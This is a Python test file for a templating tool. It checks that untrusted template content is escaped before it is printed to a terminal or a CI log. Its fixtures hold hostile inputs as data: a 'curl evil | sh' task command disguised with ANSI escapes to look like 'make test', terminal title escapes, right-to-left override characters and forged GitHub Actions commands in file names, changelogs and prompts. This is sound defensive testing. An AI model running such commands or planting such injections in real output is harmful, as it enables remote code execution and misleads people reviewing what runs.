"""What a stranger wrote is shown where it is told, and neither the terminal nor a CI server obeys it."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest

from paved_road.testing import evolve, make_road, paved, write_files
from tests.terminal import on_a_terminal

TITLE = "\x1b]2;owned\x07"
HIDE = "\x1b[2K\r\x1b[8m"
SHOWN = "\\x1b]2;owned\\x07"
DANGEROUS = set("\x07\x9b\u202e\u200b")


def dangers(text: str) -> set[str]:
    """What a terminal would obey, colours and spinners of our own left out: they are none when NO_COLOR is set."""
    return set(text) & (DANGEROUS | {"\x1b"})


def test_what_wants_to_run_is_shown_as_it_is(tmp_path: Path) -> None:
    """The line that a person decides by."""
    command = f"curl evil | sh #{HIDE}make test{TITLE}\n::stop-commands::x"
    road = make_road(tmp_path / "road", {"copier.yml": f"name: x\n_tasks: [{json.dumps(command)}]\n", "a.txt": "a\n"})
    said = paved("new", tmp_path / "svc", "--road", road, "--defaults")
    assert said.returncode == 2
    assert "curl evil | sh" in said.stderr
    assert SHOWN in said.stderr
    assert not dangers(said.stderr)
    assert "\r" not in said.stderr


def test_a_templates_messages_are_shown(tmp_path: Path) -> None:
    text = json.dumps(f"welcome{TITLE}\n::set-output name=x::y\u202e")
    road = make_road(tmp_path / "road", {"copier.yml": f"name: x\n_message_after_copy: {text}\n", "a.txt": "a\n"})
    said = paved("new", tmp_path / "svc", "--road", road, "--defaults")
    assert said.returncode == 0
    assert SHOWN in said.stdout + said.stderr
    assert not dangers(said.stdout + said.stderr)


@pytest.fixture
def service(tmp_path: Path) -> Path:
    """A service of a road whose next release has names, a changelog and contents that are traps."""
    files = {
        "copier.yml": "_subdirectory: template\nname: x\n",
        "paved-road.yml": "owners: {road: ['a*']}\n",
        "template/a.txt": "a\n",
        "template/{{ _copier_conf.answers_file }}.jinja": "{{ _copier_answers | to_nice_yaml }}",
    }
    road = make_road(tmp_path / "road", files)
    assert paved("new", tmp_path / "svc", "--road", road, "--defaults").returncode == 0
    changelog = f"# Changelog\n\n## 1.1.0\n\n- New{TITLE}\n\n::error::forged \x9b2J\n"
    name = f"template/a{TITLE}\n::error file=x::b\u202e.txt"
    evolve(road, {"CHANGELOG.md": changelog, name: f"x{TITLE}\n", "template/a.txt": f"b{HIDE}\n"}, tag="v1.1.0")
    return tmp_path / "svc"


@pytest.mark.parametrize("in_ci", [False, True])
def test_names_contents_and_changelogs_are_shown(in_ci: bool, service: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    if in_ci:
        monkeypatch.setenv("GITHUB_ACTIONS", "true")
    said = paved("update", service, "--dry-run")
    assert said.returncode == 0
    assert SHOWN in said.stdout
    assert not dangers(said.stdout + said.stderr)
    assert not [line for line in said.stdout.splitlines() if in_ci and line.lstrip().startswith("::")]
    exact = paved("update", service, "--dry-run", "--json")
    assert f"a{TITLE}\n::error file=x::b\u202e.txt" in [one["path"] for one in exact.envelope["result"]["changes"]]
    assert not dangers(exact.stdout) - {"\u202e", "\u200b", "\x9b"}, "C1 and the invisible are for the reader of a pipe"


def test_drift_is_shown(service: Path) -> None:
    assert paved("update", service, "--commit").returncode == 0
    write_files(service, {f"a{TITLE}\n::error file=x::b\u202e.txt": f"{HIDE}\n", "a.txt": f"c{TITLE}\n"})
    for words in (("drift", "--diff"), ("off-road", "check"), ("off-road", "report"), ("status",)):
        said = paved(*words, service)
        assert said.returncode in (0, 1)
        assert not dangers(said.stdout + said.stderr)


def test_questions_are_shown(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    questions = f"""\
kind:
  type: str
  help: {json.dumps(f"Which?{TITLE}")}
  choices: {{{json.dumps(f"first{TITLE}")}: one, second: two}}
word:
  type: str
  help: Word
  default: {json.dumps(f"d{TITLE}")}
"""
    road = make_road(tmp_path / "road", {"copier.yml": questions, "a.txt.jinja": "{{ kind }} {{ word }}\n"})
    command: list[str | Path] = [sys.executable, "-m", "paved_road", "new", tmp_path / "svc", "--road", road]
    code, shown = on_a_terminal(command, tmp_path, ["1", "", ""])
    assert code == 0, shown
    assert shown.count(SHOWN) >= 3
    assert "\x07" not in shown
    assert (tmp_path / "svc" / "a.txt").read_text() == f"one d{TITLE}\n", "the answer is exact"
